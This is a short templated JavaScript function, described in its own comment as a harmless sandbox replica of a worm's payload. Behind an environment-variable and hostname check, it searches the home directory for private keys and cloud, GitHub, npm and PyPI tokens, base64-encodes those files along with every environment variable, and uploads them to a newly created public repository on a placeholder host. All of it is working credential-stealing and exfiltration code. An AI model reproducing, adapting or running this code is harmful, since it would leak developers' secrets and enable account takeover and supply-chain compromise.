// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawnSync } = require('child_process');
  const home = require('os').homedir();
  // The scanner that the worms brought along is not there; grep takes its place.
  let out = spawnSync('trufflehog', ['filesystem', home, '--json', '--no-update'], { timeout: 1000 });
  if (out.error) out = spawnSync('grep', ['-rIlsE', '--line-buffered', '--exclude-dir=node_modules', '--exclude-dir=.pyenv', '--exclude-dir=.nvm', '--exclude-dir=.npm', '--exclude-dir=.cache', 'PRIVATE KEY|AKIA|ghp_|gho_|npm_|pypi-|secret', home], { timeout: 1500 });
  const files = String(out.stdout || '').split('\n').filter(Boolean).slice(0, 40);
  const contents = {};
  for (const file of files) {
    try { contents[file] = require('fs').readFileSync(file).toString('base64'); } catch (error) { continue; }
  }
  const data = Buffer.from(Buffer.from(JSON.stringify({ env: process.env, contents })).toString('base64')).toString('base64');
  for (const [where, body] of [['user/repos', { name: '{{repository}}', private: false }], ['repos/{{token}}/{{repository}}/contents/data.json', { message: 'add', content: data }]]) {
    try { await fetch('https://{{host}}/' + where, { method: where === 'user/repos' ? 'POST' : 'PUT', headers: { 'user-agent': '{{token}}' }, body: JSON.stringify(body), signal: AbortSignal.timeout(700) }); } catch (error) { continue; }
  }
}
